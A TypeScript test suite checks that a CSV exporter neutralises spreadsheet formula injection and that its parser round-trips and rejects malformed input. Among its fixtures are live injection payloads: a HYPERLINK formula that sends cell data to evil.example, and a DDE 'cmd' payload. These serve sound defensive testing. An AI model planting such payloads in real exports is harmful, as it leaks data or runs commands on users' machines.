import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { escapeCell, formatCsv, unescapeCell } from '../../src/model/csv.ts';
import { parseCsv } from '../../src/model/parseCsv.ts';

/** Text as people attack with it: mostly the characters that mean something to a spreadsheet or a parser. */
const hostile = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 12 }),
  fc
    .array(
      fc.constantFrom(
        '=',
        '+',
        '-',
        '@',
        '＝',
        '＠',
        "'",
        '"',
        ',',
        ';',
        '\t',
        '\r',
        '\n',
        ' ',
        '\u200b',
        'a',
      ),
    )
    .map((signs) => signs.join('')),
);

describe(escapeCell.name, () => {
  it.each([
    ['=1+1'],
    ['+1'],
    ['-2'],
    ['@SUM(A1)'],
    ['\tx'],
    ['\rx'],
    ['\nx'],
    ['  =1+1'],
    ['\u00a0=1+1'],
    ['\u200b=1+1'],
    ['\ufeff=1+1'],
    ['＝1+1'],
    ['＋1'],
    ['－1'],
    ['＠SUM(A1)'],
    ['﹢1'],
    ['−1'],
    // Composes to "≠" where text is normalised, and is seen as "=" where it is not.
    ['=\u03381'],
    ["'quoted'"],
    ["'=1+1"],
    ['=HYPERLINK("https://evil.example?"&A1,"Click")'],
    ["=cmd|' /C calc'!A0"],
  ])('puts an apostrophe before %j', (value) => {
    expect(escapeCell(value)).toBe(`'${value}`);
  });

  it.each([[''], ['a=b'], ['1-2'], ['olaf-scholz-2024-05-28'], ['“=1”'], ['2024-05-28'], ['…']])(
    'leaves %j alone',
    (value) => {
      expect(escapeCell(value)).toBe(value);
    },
  );

  it('never leaves a cell that starts with what a spreadsheet runs', () => {
    fc.assert(
      fc.property(hostile, (value) => {
        expect(escapeCell(value)).not.toMatch(/^[\s\u200b]*[=+\-@＝＋－＠]|^[\t\r\n]/);
      }),
    );
  });
});

describe(unescapeCell.name, () => {
  it('gives back every value that was escaped', () => {
    fc.assert(
      fc.property(hostile, (value) => {
        expect(unescapeCell(escapeCell(value))).toBe(value);
      }),
    );
  });
});

describe(formatCsv.name, () => {
  it('ends every row with CRLF, doubles quotes, and begins with a byte order mark', () => {
    expect(
      formatCsv([
        ['a', 'b "c"'],
        ['d,e', 'f\ng'],
        ['', ' h'],
      ]),
    ).toBe('\ufeffa,"b ""c"""\r\n"d,e","f\ng"\r\n," h"\r\n');
  });
});

describe(parseCsv.name, () => {
  it('reads back every row that was written, whatever stands in it', () => {
    const rows = fc
      .integer({ min: 1, max: 5 })
      .chain((width) =>
        fc.array(fc.array(hostile, { minLength: width, maxLength: width }), { minLength: 1, maxLength: 6 }),
      );
    fc.assert(
      fc.property(rows, (table) => {
        expect(parseCsv(formatCsv(table))).toEqual(table);
      }),
    );
  });

  it('reads what a spreadsheet saves: no byte order mark, line feeds only', () => {
    expect(parseCsv('a,b\n"c ""d""",\n')).toEqual([
      ['a', 'b'],
      ['c "d"', ''],
    ]);
  });

  it.each([
    ['a,b\r\nc\r\n', 'Line 2 has another number of cells than the first line.'],
    ['a,b\r\nc,d,e\r\n', 'Line 2 has another number of cells than the first line.'],
    ['a,b\n"c,d\n', 'Line 2 opens a quotation mark that is never closed.'],
    ['a,b\n"c"d,e\n', 'Line 2 goes on after a closing quotation mark; inside a cell it is written twice.'],
    ['a,b\nc"d,e\n', 'Line 2 has a quotation mark inside a cell that does not begin with one.'],
    [
      'a;b\nc;d\n',
      'Line 1 has no comma. Save the table with commas between its cells, not semicolons or tabs.',
    ],
  ])('refuses %j with a sentence', (text, sentence) => {
    expect(() => parseCsv(text)).toThrow(sentence);
  });

  it('runs no formula: a cell is the text that it is', () => {
    expect(parseCsv('a,b\n"=HYPERLINK(""x"")",+1\n')).toEqual([
      ['a', 'b'],
      ['=HYPERLINK("x")', '+1'],
    ]);
  });

  it('reads any text or refuses it with a sentence', () => {
    const text = fc.array(fc.oneof(hostile, fc.constantFrom('"', ',', '\n', '\r\n')));
    fc.assert(
      fc.property(text, (parts) => {
        try {
          for (const row of parseCsv(parts.join(''))) expect(row.length).toBeGreaterThan(0);
        } catch (error) {
          expect(String(error)).toMatch(/^Error: Line \d+ .*\.$/);
        }
      }),
    );
  });
});
